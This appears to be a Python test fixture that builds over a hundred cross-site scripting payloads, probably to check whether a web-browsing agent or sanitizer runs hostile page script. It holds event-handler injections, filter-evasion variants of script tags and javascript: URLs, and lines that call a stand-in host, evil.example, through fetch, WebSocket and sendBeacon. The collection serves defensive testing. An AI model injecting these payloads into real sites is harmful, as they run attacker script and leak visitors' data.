"""Texts that want to be script: what a mission may have picked up from a page that does not wish it well.

Each that runs sets ``top.hit``; some ask for something of another host, or open a dialog.
"""

from __future__ import annotations

from typing import Final

_RUN: Final = "top.hit=(top.hit||0)+1"
_EVIL: Final = "http://evil.example/x"

_HANDLERS = (
    *(("img src=x", "onerror"), ("svg", "onload"), ("body", "onload"), ("body", "onpageshow"), ("iframe", "onload")),
    *(
        ("style", "onload"),
        ("script src=data:,", "onload"),
        ("script src=//[", "onerror"),
        ("link rel=stylesheet href=data:,", "onload"),
    ),
    *(("input autofocus", "onfocus"), ("select autofocus", "onfocus"), ("textarea autofocus", "onfocus")),
    *(("button autofocus", "onfocus"), ("a href=# tabindex=1 autofocus", "onfocus"), ("details open", "ontoggle")),
    *(
        ("video src=x", "onerror"),
        ("audio src=x", "onerror"),
        ("video><source", "onerror"),
        ("object data=x:", "onerror"),
    ),
    *(("embed src=x:", "onerror"), ("image src=x", "onerror"), ("input type=image src=x:", "onerror")),
    *(("svg><animate attributeName=x dur=1s", "onbegin"), ("svg><set attributeName=x", "onbegin")),
    *(
        ("div style='animation:a 1s' onanimationstart", ""),
        ("marquee", "onstart"),
        ("x tabindex=1 autofocus", "onfocus"),
    ),
    *(("p contenteditable autofocus", "onfocus"), ("svg><image href=x", "onerror"), ("frameset", "onload")),
)
_WRAPPINGS = (
    "{}",
    '"><{}',
    "'><{}",
    "</textarea><{}",
    "</script><{}",
    "--><{}",
    "</title><{}",
    "]]><{}",
    '\\"><{}',
    "`><{}",
)
_SCRIPTS = (
    "<script>{}</script>",
    "<script >{}</script >",
    "<SCRIPT>{}</SCRIPT>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<svg><script>{}</script></svg>",
    "<math><mtext><script>{}</script></mtext></math>",
    "<script type=module>{}</script>",
    "<script>/*</script><script>*/{}</script>",
    "\x00<script>{}</script>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe srcdoc='&lt;script&gt;{}&lt;/script&gt;'></iframe>",
    "<noscript><p title='</noscript><script>{}</script>'>",
    "<template><script>{}</script></template><img src=x onerror='{}'>",
    "<style><style /><img src=x onerror='{}'>",
    "<xmp></xmp><img src=x onerror={}>",
    "<img src=x onerror=eval('{}')>",
    "<img/src=x/onerror={}>",
    "<img src=x oneonerrorrror=x onerror={}>",
    "<svg/onload={}>",
    "<svg><foreignObject><iframe srcdoc='<script>{}</script>'></iframe></foreignObject></svg>",
    "<a href='javascript:{}'>click</a>",
    "<a href='jAvAsCrIpT&colon;{}'>click</a>",
    "<a href='java\tscript:{}'>click</a>",
    "<form action='javascript:{}'><input type=submit autofocus></form>",
    "<iframe src='javascript:{}'></iframe>",
    "<iframe src='data:text/html,<script>{}</script>'></iframe>",
    "<object data='data:text/html,<script>{}</script>'></object>",
    "<embed src='data:text/html,<script>{}</script>'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "javascript:{}",
    "JaVaScRiPt:{}//%0a",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
    "javascript://https://example.com/%0a{}",
    "'-{}-'",
    '";{};//',
    "${{{}}}",
    "{{{{constructor.constructor('{}')()}}}}",
    "</script><script>{}</script>",
    "<!--<script>{}</script>-->",
    "<![CDATA[<script>{}</script>]]>",
    "%3Cscript%3E{}%3C/script%3E",
    "&lt;script&gt;{}&lt;/script&gt;",
    "\u003cscript\u003e{}\u003c/script\u003e",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
)
_FOREIGN = (
    f"<img src={_EVIL}>",
    f"<script src={_EVIL}></script>",
    f"<link rel=stylesheet href={_EVIL}>",
    f"<link rel=prefetch href={_EVIL}>",
    f"<style>@import '{_EVIL}';</style>",
    f"<style>body{{background:url({_EVIL})}}</style>",
    f"<div style='background:url({_EVIL})'>",
    f"<iframe src={_EVIL}></iframe>",
    f"<video poster={_EVIL}></video>",
    f"<audio src={_EVIL} autoplay></audio>",
    f"<object data={_EVIL}></object>",
    f"<base href={_EVIL}>",
    f"<meta http-equiv=refresh content='0;url={_EVIL}'>",
    f"<svg><use href={_EVIL}#a></svg>",
    "<img src=x onerror=alert(1)>",
    "<script>confirm(1)</script>",
    "<svg onload=prompt(1)>",
    f"<img src=x onerror=fetch('{_EVIL}')>",
    "<img src=x onerror=\"new WebSocket('ws://evil.example/x')\">",
    f"<img src=x onerror=navigator.sendBeacon('{_EVIL}')>",
)


def _handlers() -> list[str]:
    found = []
    for number, (tag, event) in enumerate(_HANDLERS):
        element = f"{tag} {event}={_RUN}>" if event else f"{tag}={_RUN}>"
        wrapping = _WRAPPINGS[number % len(_WRAPPINGS)]
        found.append(f"<{element}" if wrapping == "{}" else wrapping.format(element))
    return [*found, *(wrapping.format(f"img src=x onerror={_RUN}>") for wrapping in _WRAPPINGS[1:])]


#: A hundred at the least.
PAYLOADS: Final = [
    *_handlers(),
    *(script.replace("{}", _RUN).replace("{{", "{").replace("}}", "}") for script in _SCRIPTS),
    *_FOREIGN,
]
